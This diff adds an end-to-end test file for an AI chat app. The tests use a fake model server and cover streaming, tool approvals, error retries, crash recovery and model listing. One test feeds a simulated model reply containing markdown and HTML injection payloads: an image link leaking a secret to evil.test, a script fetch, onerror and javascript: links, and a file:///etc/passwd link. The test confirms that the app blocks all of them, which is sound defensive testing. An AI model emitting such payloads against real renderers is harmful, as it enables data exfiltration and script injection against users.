@@ -1,0 +1,154 @@
+import { answer, callTools } from '../../fakeModels/reply.ts';
+import {
+  answers,
+  approval,
+  goTo,
+  idle,
+  newChat,
+  send,
+  startWithSample,
+  toolCall,
+  useFakeModel,
+} from '../../fixtures/actions.ts';
+import { expect, test } from '../../fixtures/fakeModelTest.ts';
+
+test.describe('models', { tag: '@shell' }, () => {
+  test('stream their answers and use the tools of servers', async ({ app: { page }, fakeModel }) => {
+    const model = await fakeModel((_request, n) =>
+      n === 0 ? callTools({ name: 'Sample_echo', arguments: { message: 'from the model' } }) : answer('It said it.'),
+    );
+    await startWithSample(page);
+    await useFakeModel(page, model.baseUrl, 'sk-canary-123');
+    await send(page, 'Please echo something');
+    await approval(page, 'Sample', 'echo').getByRole('button', { name: 'Allow once' }).click();
+    await expect(answers(page).last()).toContainText('It said it.');
+    expect(model.requests[0]?.headers.authorization).toBe('Bearer sk-canary-123');
+    expect(JSON.stringify(model.requests[1]?.body)).toContain('from the model');
+  });
+
+  test('say what to do when something is wrong, and can be asked again', async ({ app: { page }, fakeModel }) => {
+    const model = await fakeModel((_request, n) =>
+      n === 0
+        ? { status: 401, error: { type: 'invalid_api_key', message: 'Incorrect API key' } }
+        : answer('Now it works.'),
+    );
+    await useFakeModel(page, model.baseUrl, 'wrong');
+    await send(page, 'Hello');
+    const alert = answers(page).last();
+    await expect(alert).toContainText(/key/i);
+    await alert.getByRole('button', { name: 'Retry' }).click();
+    await expect(answers(page).last()).toContainText('Now it works.');
+  });
+
+  test('leave what came when their answer breaks off', async ({ app: { page }, fakeModel }) => {
+    const model = await fakeModel(() => ({ steps: [{ text: 'This much came' }, { cut: true }] }));
+    await useFakeModel(page, model.baseUrl);
+    await send(page, 'Hello');
+    await expect(answers(page).last()).toContainText('This much came');
+    await expect(answers(page).last().getByRole('button', { name: 'Retry' })).toBeVisible();
+  });
+
+  test('get an error to read when they call what does not exist', async ({ app: { page }, fakeModel }) => {
+    const model = await fakeModel((_request, n) =>
+      n === 0 ? callTools({ name: 'no_such_tool', arguments: '{"half": ' }) : answer('Sorry.'),
+    );
+    await useFakeModel(page, model.baseUrl);
+    await send(page, 'Hello');
+    await expect(answers(page).last()).toContainText('Sorry.');
+    expect(JSON.stringify(model.requests[1]?.body)).toContain('There is no tool called');
+  });
+
+  test('have their calls made side by side, with a card for each', async ({ app: { page }, fakeModel }) => {
+    const model = await fakeModel((_request, n) =>
+      n === 0
+        ? callTools(
+            { name: 'Sample_echo', arguments: { message: 'a' } },
+            { name: 'Sample_add', arguments: { a: 1, b: 2 } },
+          )
+        : answer('Both done.'),
+    );
+    await startWithSample(page);
+    await useFakeModel(page, model.baseUrl);
+    await send(page, 'Go');
+    await approval(page, 'Sample', 'add').getByRole('button', { name: 'Allow once' }).click();
+    await expect(toolCall(page, 'Sample', 'add')).toContainText('Done');
+    await approval(page, 'Sample', 'echo').getByRole('button', { name: 'Allow once' }).click();
+    await expect(answers(page).last()).toContainText('Both done.');
+  });
+
+  test('are sent what was typed meanwhile when they are done', async ({ app: { page }, fakeModel }) => {
+    const gate = Promise.withResolvers<void>();
+    const model = await fakeModel((_request, n) =>
+      n === 0 ? { steps: [{ text: 'First' }, { wait: gate.promise }] } : answer('Second'),
+    );
+    await useFakeModel(page, model.baseUrl);
+    await send(page, 'one');
+    await expect(answers(page).last()).toContainText('First');
+    await send(page, 'two');
+    await expect(page.getByRole('list', { name: 'Waiting messages' })).toContainText('two');
+    gate.resolve();
+    await expect(answers(page).last()).toContainText('Second');
+  });
+
+  test('lose no finished message to kill -9, and the turn is shown as interrupted', async ({ launch, fakeModel }) => {
+    const never = Promise.withResolvers<void>();
+    const model = await fakeModel((_request, n) =>
+      n === 0 ? answer('A finished answer.') : { steps: [{ text: 'Half of an answer' }, { wait: never.promise }] },
+    );
+    const app = await launch();
+    await useFakeModel(app.page, model.baseUrl);
+    await send(app.page, 'first question');
+    await expect(answers(app.page).last()).toContainText('A finished answer.');
+    await idle(app.page);
+    await send(app.page, 'second question');
+    await expect(answers(app.page).last()).toContainText('Half of an answer');
+    await app.kill('SIGKILL');
+    never.resolve();
+
+    const { page } = await launch();
+    await page.getByRole('button', { name: /^first question/ }).click();
+    await expect(answers(page).first()).toContainText('A finished answer.');
+    await expect(page.getByRole('article', { name: 'User message' }).last()).toContainText('second question');
+    await expect(page.getByText('This answer was interrupted')).toBeVisible();
+  });
+
+  test('cannot make the page fetch, run or open anything by what they write', async ({ app: { page }, fakeModel }) => {
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    let dialogs = 0;
+    page.on('dialog', (dialog) => {
+      dialogs++;
+      void dialog.dismiss();
+    });
+    const hostile = [
+      '![x](https://evil.test/pixel.png?q=secret)',
+      '<img src=https://evil.test/a.png onerror=alert(1)>',
+      '<script>fetch("https://evil.test/")</script>',
+      '[click](javascript:alert(1)) [file](file:///etc/passwd) [data](data:text/html,<script>alert(1)</script>)',
+      '<iframe src="https://evil.test/"></iframe>',
+      '[fine](https://good.test/)',
+    ].join('\n\n');
+    const model = await fakeModel(() => ({ steps: [{ text: hostile }] }));
+    await useFakeModel(page, model.baseUrl);
+    await send(page, 'Hello');
+    await expect(answers(page).last()).toContainText('fine');
+    await idle(page);
+    expect(asked.filter((url) => url.includes('evil.test'))).toEqual([]);
+    expect(dialogs).toBe(0);
+    await expect(page.locator('iframe, script[src*="evil"]')).toHaveCount(0);
+    await expect(page.locator('a[href^="javascript:"], a[href^="file:"], a[href^="data:"]')).toHaveCount(0);
+  });
+
+  test('are listed by their provider, and a wrong address says so', async ({ app: { page }, fakeModel }) => {
+    const model = await fakeModel(() => answer('x'));
+    await useFakeModel(page, model.baseUrl);
+    await goTo(page, 'Settings');
+    await page.getByRole('button', { name: 'Check models' }).last().click();
+    await expect(page.getByText(/^It works: \d+ models?\.$/)).toBeVisible();
+    await page.keyboard.press('Escape');
+    await model.close();
+    await newChat(page);
+    await send(page, 'Hello');
+    await expect(answers(page).last()).toContainText(model.baseUrl.replace('http://', ''));
+  });
+});
